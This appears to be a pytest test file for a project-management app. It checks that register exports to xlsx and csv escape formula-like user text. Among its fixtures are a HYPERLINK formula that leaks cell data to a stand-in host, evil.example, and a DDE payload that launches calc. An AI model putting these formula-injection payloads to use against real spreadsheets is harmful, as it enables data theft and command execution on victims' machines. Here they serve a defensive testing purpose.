"""Every register downloads as .xlsx and .csv, from the page and the API, and user text that
would run as a formula arrives as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from openpmo.accounts.roles import Role
from openpmo.benefits.tests.factories import BenefitFactory
from openpmo.exchange.exports import REGISTERS
from openpmo.portfolio.tests.factories import WorkPackageFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _cells(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [[c for c in row] for row in sheet.iter_rows()]


def _text_cell(content: bytes, text: str):
    for row in _cells(content):
        for cell in row:
            if cell.value == text:
                return cell
    raise AssertionError(f"{text!r} is not in the workbook")


def test_the_work_package_export_keeps_a_formula_like_name_as_text(client, role_user):
    WorkPackageFactory(name=EVIL, reference="WP-EVIL")
    client.force_login(role_user(Role.VIEWER))

    response = client.get("/exchange/export/work-packages.xlsx")

    assert response.status_code == 200
    cell = _text_cell(response.content, EVIL)
    assert cell.data_type == "s"
    assert cell.quotePrefix


def test_the_api_lists_export_as_xlsx_and_csv_with_every_row_and_formulas_escaped(
    client, role_user
):
    for n in range(60):  # more than one page of JSON
        WorkPackageFactory(reference=f"WP-{n:03d}", name=EVIL if n == 0 else f"Package {n}")
    client.force_login(role_user(Role.VIEWER))

    xlsx = client.get("/api/work-packages/?format=xlsx")
    text = client.get("/api/work-packages/?format=csv")

    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="work-package.xlsx"' in xlsx["Content-Disposition"]
    rows = _cells(xlsx.content)
    assert len(rows) == 61
    assert _text_cell(xlsx.content, EVIL).data_type == "s"
    table = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
    assert len(table) == 61
    assert "'" + EVIL in [cell for row in table for cell in row]


def test_every_register_downloads_in_both_formats(client, role_user):
    client.force_login(role_user(Role.VIEWER))
    for slug, register in REGISTERS.items():
        for fmt in ("xlsx", "csv"):
            response = client.get(f"/exchange/export/{slug}.{fmt}")
            assert response.status_code == 200, (slug, fmt)
        headings = [c.value for c in _cells(client.get(f"/exchange/export/{slug}.xlsx").content)[0]]
        assert headings == [h for h, _ in register.columns]


def test_the_benefits_register_xlsx_keeps_a_formula_like_title_as_text(
    client, role_user, programme_tree
):
    BenefitFactory(title="=cmd|' /C calc'!A0", pillar=programme_tree.strand.pillar)
    client.force_login(role_user(Role.PMO))
    response = client.get("/benefits/export/register.xlsx")
    assert _text_cell(response.content, "=cmd|' /C calc'!A0").data_type == "s"


def test_the_work_package_export_imports_back_unchanged(client, role_user):
    from openpmo.exchange import services

    WorkPackageFactory(reference="WP-ROUND", strand__pillar__programme__short_name="RT")
    pmo = role_user(Role.PMO)
    client.force_login(pmo)
    exported = client.get("/exchange/export/work-packages.xlsx").content
    _, plan = services.register_import_preview(actor=pmo, filename="r.xlsx", data=exported)
    assert plan.errors == []
    assert [(r.reference, r.action) for r in plan.rows] == [("WP-ROUND", "unchanged")]


@pytest.mark.parametrize(
    "url",
    [
        "/api/risks/",
        "/api/issues/",
        "/api/decisions/",
        "/api/benefits/",
        "/api/gate-requests/",
        "/api/reserve/ledger/",
        "/api/my-work/",
    ],
)
def test_each_register_endpoint_answers_in_both_spreadsheet_formats(client, role_user, url):
    from openpmo.finance.tests.factories import ReserveFactory

    ReserveFactory()
    client.force_login(role_user(Role.PMO))
    xlsx = client.get(f"{url}?format=xlsx")
    text = client.get(f"{url}?format=csv")
    assert xlsx.status_code == 200 and text.status_code == 200, (xlsx.content, text.content)
    assert load_workbook(io.BytesIO(xlsx.content)).worksheets[0].max_row >= 1
    assert text["Content-Type"].startswith("text/csv")
